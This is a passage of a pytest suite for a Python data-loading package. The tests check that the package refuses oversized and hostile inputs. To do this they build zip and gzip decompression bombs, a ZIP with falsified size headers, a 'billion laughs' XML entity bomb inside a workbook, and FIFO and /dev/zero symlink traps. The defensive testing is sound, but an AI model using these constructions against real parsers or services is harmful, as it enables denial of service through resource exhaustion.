    assert (info.value.file, info.value.row) == ("rows.csv", 17)
    assert isinstance(info.value.__cause__, DataError)

    # a survey without any answer: the loader's ValueError names the file -> a DataError
    path = tmp_path / "no_answers.csv"
    path.write_text("Timestamp,Email Address,Reliability [Ana]\n3/1/2025 10:09:41,b@a.org,\n")
    with pytest.raises(DataError, match=r"^no_answers\.csv: "):
        pn.read_survey(path)


def test_long_table_rows_sharing_a_spreadsheet_row_are_each_counted():
    """A wide survey row becomes several ratings; dropping the row drops all of them."""
    surveys = pd.DataFrame({"respondent": [None, None, None, "ana"],
                            "item": ["trust", "trust", "mission", "trust"],
                            "value": [3, 2, 4, 1], "wave": ["2025"] * 4})
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        net = pn.PeerNetwork.from_tables(
            members=pd.DataFrame({"member_id": ["ana"]}), surveys=surveys,
            rows={"surveys": np.array([2, 2, 2, 3])}, sources={"surveys": "wide.csv"})
    counts = net.quality.counts.set_index("source").loc["wide.csv"]
    assert (counts["rows_read"], counts["rows_kept"], counts["rows_dropped"]) == (4, 1, 3)
    check_accounting(net)


# ------------------------------------------------------------------------ limits (issue 21)
def test_a_million_columns_is_refused_before_parsing(tmp_path):
    from peernet.io._limits import MAX_COLUMNS

    folder = canonical_copy(tmp_path)
    header = ",".join(f"c{i}" for i in range(MAX_COLUMNS + 1))
    (folder / "interactions.csv").write_text(f"timestamp,source,kind,{header}\n1,2,3\n")
    with pytest.raises(DataError, match=rf"^interactions\.csv, row 1: the header has "
                                        rf"{MAX_COLUMNS + 4:,} columns, more than the limit"):
        pn.load(folder)


def test_a_workbook_of_millions_of_cells_is_refused_before_openpyxl(tmp_path):
    import openpyxl

    from peernet.io._limits import MAX_COLUMNS

    wb = openpyxl.Workbook()
    wb.active["A1"] = "member_id"
    wb.active.cell(row=1, column=MAX_COLUMNS + 10, value="x")
    folder = canonical_copy(tmp_path)
    (folder / "members.csv").unlink()
    wb.save(folder / "members.xlsx")
    with pytest.raises(DataError, match=r"^members\.xlsx: sheet 'sheet1\.xml' spans 5,010 "
                                        r"columns"):
        pn.load(folder)
    with pytest.raises(DataError, match=r"^members\.xlsx: sheet 'sheet1\.xml' spans"):
        pn.read_signin(folder / "members.xlsx", tz="UTC")


def test_a_zip_bomb_is_refused_before_inflating(tmp_path):
    import zipfile

    bomb = tmp_path / "slack.zip"
    with zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr("users.json", "[]")
        z.writestr("channels.json", "[]")
        z.writestr("general/2024-03-05.json", b"[" + b" " * (40 * 2**20) + b"]")
    assert bomb.stat().st_size < 200_000
    with pytest.raises(DataError, match=r"^slack\.zip: 'general/2024-03-05\.json' would "
                                        r"inflate from [\d,]+ to 41,943,042 bytes"):
        pn.read_slack(bomb)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_fifos_devices_and_links_out_are_refused_not_read(tmp_path):
    folder = canonical_copy(tmp_path)
    (folder / "interactions.csv").unlink()
    os.mkfifo(folder / "interactions.csv")  # reading it would wait forever
    with pytest.raises(DataError, match=r"^interactions\.csv: is a FIFO \(named pipe\), not a "
                                        r"regular file"):
        pn.load(folder)
    (folder / "interactions.csv").unlink()
    (folder / "interactions.csv").symlink_to("/dev/zero")  # never ends
    with pytest.raises(DataError, match=r"^interactions\.csv: is a device or socket"):
        pn.load(folder)
    zoom = _files("zoom", "meeting_plain.csv")[0]
    os.mkfifo(tmp_path / "pipe.csv")
    with pytest.raises(DataError, match="is a FIFO"):
        pn.read_zoom(tmp_path / "pipe.csv", tz="UTC")
    # a folder of exports: a FIFO, a link to /dev/zero, a link out of the folder, a link
    # loop, and a copy of the same export in a sub-folder
    exports = tmp_path / "exports"
    (exports / "copies").mkdir(parents=True)
    shutil.copy(zoom, exports / "call.csv")
    shutil.copy(zoom, exports / "copies" / "call again.csv")
    os.mkfifo(exports / "pipe.csv")
    (exports / "zero.csv").symlink_to("/dev/zero")
    (exports / "usr").symlink_to("/usr")
    (exports / "copies" / "loop").symlink_to(exports)
    once = pn.read_zoom(zoom, tz="UTC")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        net = pn.read_events(exports, tz="UTC")
    assert len(net.interactions) == len(once.interactions)  # the copy is not counted twice
    notes = dict(zip(net.quality.issues["value"], net.quality.issues["problem"], strict=True))
    assert notes["copies/call again.csv"] == "same content as 'call.csv'; read once"
    assert notes["pipe.csv"] == "not a regular file (a FIFO, device or socket); not read"
    assert notes["zero.csv"] == "symbolic link leading out of the folder; not read"
    assert notes["usr"] == "symbolic link leading out of the folder; not read"
    assert notes["copies/loop"] == "reached a second time (a symbolic link); read once"


def test_unknown_events_cross_check_names_the_first_row_of_each(tmp_path):
    """The events cross-check is one pass (it scanned the rows once per event: quadratic)."""
    folder = canonical_copy(tmp_path)
    rows = ["timestamp,source,kind,target,event_id"]
    for i in range(3000):
        rows.append(f"2025-01-{1 + i % 28:02d} 10:00,ana,attend,,x{i % 1000}")
    (folder / "interactions.csv").write_text("\n".join(rows) + "\n")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        net = pn.load(folder)
    added = net.quality.issues[net.quality.issues["problem"].str.startswith("event not in")]
    assert len(added) == 1000
    first = dict(zip(added["value"], added["row"], strict=True))
    assert (first["x0"], first["x999"], first["x5"]) == (2, 1001, 7)


def test_xml_bombs_in_workbooks_are_refused_by_defusedxml(tmp_path):
    """XML bomb protection comes from a declared dependency, not the system's expat."""
    import zipfile

    import openpyxl
    import openpyxl.xml

    assert openpyxl.xml.DEFUSEDXML  # openpyxl parses with defusedxml
    wb = openpyxl.Workbook()
    wb.active["A1"] = "Name"
    good = tmp_path / "good.xlsx"
    wb.save(good)
    bomb = tmp_path / "signin.xlsx"
    entities = [f'<!ENTITY lol{i} "{(f"&lol{i - 1};" if i else "&lol;") * 10}">'
                for i in range(9)]
    laughs = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(entities)
              + ']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
              '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol8;</t></is></c></row>'
              '</sheetData></worksheet>')
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(bomb, "w") as dst:
        for item in src.infolist():
            data = laughs.encode() if item.filename == "xl/worksheets/sheet1.xml" else \
                src.read(item.filename)
            dst.writestr(item, data)
    from defusedxml import DefusedXmlException

    with pytest.raises(DataError, match=r"^signin\.xlsx: cannot read") as info:
        pn.read_signin(bomb, tz="UTC")
    chain, err = [], info.value
    while err is not None:
        chain.append(err)
        err = err.__cause__ or err.__context__
    assert any(isinstance(e, DefusedXmlException) for e in chain), chain


def test_row_numbers_after_blank_lines_and_padded_rows_are_recorded(tmp_path):
    folder = canonical_copy(tmp_path)
    (folder / "interactions.csv").write_text(
        "timestamp,source,kind,target\n2025-01-01,ana,message,ben\n\n"
        "not a date,ben,message,ana\n2025-01-02,cai,message\n")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        net = pn.load(folder)
    issues = net.quality.issues
    issues = issues[issues["source"] == "interactions.csv"]
    # the blank line is row 3 in a spreadsheet: the bad date is on row 4, the short row on 5
    assert issues.loc[issues["column"] == "timestamp", "row"].tolist() == [4]
    short = issues[issues["problem"].str.startswith("row has 3 cells")]
    assert short[["row", "column", "action"]].values.tolist() == [[5, "target", "repaired"]]
    # the same without the blank line, through pandas' fast path
    (folder / "interactions.csv").write_text(
        "timestamp,source,kind,target\n2025-01-01,ana,message,ben\n2025-01-02,cai,message\n")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        net = pn.load(folder)
    issues = net.quality.issues
    assert issues.loc[issues["problem"].str.startswith("row has 3 cells"), "row"].tolist() == [3]


def test_near_duplicate_member_ids_are_noted_not_merged(tmp_path):
    folder = canonical_copy(tmp_path)
    (folder / "members.csv").write_text(
        "member_id,name,email,org\nana,Ana Ruiz,ana@a.org,A\nben,Ben Roy,ben@a.org,A\n"
        "cai,Cai Lin,cai@b.org,B\ndee,Dee Park,dee@b.org,B\n"
        "an\u200ba,Ana Zero Width,,A\nANA,Ana Upper,,A\n\uff41na,Ana Fullwidth,,A\n"
        "\u0430na,Ana Cyrillic,,A\nan\u200fa,Ana RTL,,A\n", encoding="utf-8")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        net = pn.load(folder)
    assert len(net.members) == 9  # none merged
    notes = net.quality.issues
    notes = notes[notes["problem"].str.startswith("member_id looks like 'ana'")]
    assert notes["row"].tolist() == [6, 7, 8, 9, 10]
    assert notes["value"].tolist() == ["an\u200ba", "ANA", "\uff41na", "\u0430na", "an\u200fa"]


def test_a_leave_time_in_year_2999_is_one_rows_problem_not_the_files(tmp_path):
    """Issue 21: one Zoom leave time in year 2999 made the whole file unreadable."""
    text = (FIXTURES / "zoom" / "meeting_details.csv").read_text(encoding="utf-8-sig")
    bad = text.replace("Ada Obi,ada@orga.org,03/05/2024 09:58:12 AM,03/05/2024 11:03:40 AM",
                       "Ada Obi,ada@orga.org,03/05/2024 09:58:12 AM,03/05/2999 11:03:40 AM")
    assert bad != text
    (tmp_path / "good.csv").write_text(text, encoding="utf-8")
    (tmp_path / "z2999.csv").write_text(bad, encoding="utf-8")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        good = pn.read_zoom(tmp_path / "good.csv", tz="UTC")
        net = pn.read_zoom(tmp_path / "z2999.csv", tz="UTC")
    # every row is read; Ada's session ends after its Duration (Minutes), 66, instead of
    # at 11:03:40 (65.47 minutes)
    assert good.interactions["duration_min"].round(4).tolist() == [65.4667, 60.8833, 35.0]
    assert net.interactions["duration_min"].round(4).tolist() == [66.0, 60.8833, 35.0]
    assert net.interactions["intervals"].iat[0] == "2024-03-05T09:58:12Z/2024-03-05T11:04:12Z"
    differ = ["origin_file", "duration_min", "intervals"]
    pd.testing.assert_frame_equal(net.interactions.drop(columns=differ),
                                  good.interactions.drop(columns=differ))
    issues = net.quality.issues
    rows = issues[issues["column"] == "Leave Time"]
    assert rows[["source", "row", "value", "action"]].values.tolist() == [
        ["z2999.csv", 5, "03/05/2999 11:03:40 AM", "info"],
        ["z2999.csv", 5, "03/05/2999 11:03:40 AM", "repaired"]]
    assert rows["problem"].tolist() == [
        "date outside the dates pandas can hold (1677-09-22 to 2262-04-11): read as an "
        "unreadable date",
        "cannot read the leave time; the session is counted as ending after its duration"]
    counts = net.quality.counts.set_index("source").loc["z2999.csv"]
    assert (counts["rows_read"], counts["rows_repaired"]) == (
        good.quality.counts.set_index("source").loc["good.csv", "rows_read"], 1)
    # a file whose every date is outside the range is still refused, saying why
    only = "Name (Original Name),User Email,Join Time,Leave Time\nAda,a@x.org,1/2/2999 9:00,\n"
    (tmp_path / "only.csv").write_text(only, encoding="utf-8")
    with pytest.raises(DataError, match=r"only\.csv, row 2, column 'Join Time': date "
                                        r"'1/2/2999 9:00' is outside the dates pandas can hold"):
        pn.read_zoom(tmp_path / "only.csv", tz="UTC")


def test_a_gzip_bomb_mailbox_is_stopped_while_inflating(tmp_path, monkeypatch):
    """Issue 21: read_mbox inflated a .gz whole, whatever it held; a ZIP is never inflated."""
    import gzip
    import zipfile

    from peernet.io import _limits

    mbox = (FIXTURES / "mbox").glob("*.mbox")
    real = next(iter(sorted(mbox))).read_bytes()
    bomb = tmp_path / "list.mbox.gz"
    bomb.write_bytes(gzip.compress(real + b"\n" * (64 * 2**20), compresslevel=9))
    assert bomb.stat().st_size < 200_000  # 64 MB of new lines: a ratio above 300
    inflated = []
    real_obj = _limits.zlib.decompressobj

    class Counting:  # how much was inflated before the refusal
        def __init__(self, *a):
            self.d = real_obj(*a)

        def decompress(self, data, n):
            out = self.d.decompress(data, n)
            inflated.append(len(out))
            return out

        def __getattr__(self, name):
            return getattr(self.d, name)

    monkeypatch.setattr(_limits.zlib, "decompressobj", Counting)
    with pytest.raises(DataError, match=r"list\.mbox\.gz: the gzip file would inflate beyond "
                                        r"[\d,]+ bytes .*decompression bomb"):
        pn.read_mbox(bomb)
    assert sum(inflated) <= max(10 * 2**20, 200 * bomb.stat().st_size) + 2**20
    # a real .gz archive still reads, multi-member and padded too
    ok = tmp_path / "ok.mbox.gz"
    ok.write_bytes(gzip.compress(real[:len(real) // 2]) + gzip.compress(real[len(real) // 2:])
                   + b"\x00" * 8)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        plain = tmp_path / "plain.mbox"
        plain.write_bytes(real)
        a, b = pn.read_mbox(ok), pn.read_mbox(plain)
    assert len(a.interactions) == len(b.interactions) > 0
    with pytest.raises(DataError, match=r"ok\.mbox\.gz: cannot decompress the \.gz file"):
        ok.write_bytes(gzip.compress(real)[:-40])
        pn.read_mbox(ok)
    zipped = tmp_path / "list.zip"
    with zipfile.ZipFile(zipped, "w", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr("list.mbox", real)
    with pytest.raises(DataError, match=r"list\.zip: a ZIP file, not an mbox archive"):
        pn.read_mbox(zipped)


def test_a_slack_zip_that_lies_about_its_sizes_is_inflated_a_megabyte_at_a_time(tmp_path):
    """Issue 21: check_zip trusts the sizes a ZIP declares; a member declaring 2 bytes and
    holding 64 MB was inflated whole (142 MB at the peak) by ``ZipFile.read``."""
    import struct
    import tracemalloc
    import zipfile

    lying = tmp_path / "slack.zip"
    with zipfile.ZipFile(lying, "w", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr("users.json", "[]")
        z.writestr("channels.json", '[{"id": "C1", "name": "general"}]')
        z.writestr("general/2024-03-05.json", b"[" + b" " * (64 * 2**20) + b"]")
    data = bytearray(lying.read_bytes())
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):  # local, central
        at = 0
        while (at := data.find(signature, at)) >= 0:
            if struct.unpack_from("<I", data, at + offset)[0] > 2**20:
                struct.pack_into("<I", data, at + offset, 2)
            at += 4
    lying.write_bytes(bytes(data))
    with zipfile.ZipFile(lying) as z:
        assert z.getinfo("general/2024-03-05.json").file_size == 2
    tracemalloc.start()
    try:
        with pytest.raises(DataError, match=r"^slack\.zip: the export holds no messages"):
            pn.read_slack(lying)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 16 * 2**20, peak
    from peernet.io._limits import read_zip_member

    with zipfile.ZipFile(lying) as z, pytest.raises(zipfile.BadZipFile, match="Bad CRC-32"):
        read_zip_member(z, "general/2024-03-05.json")
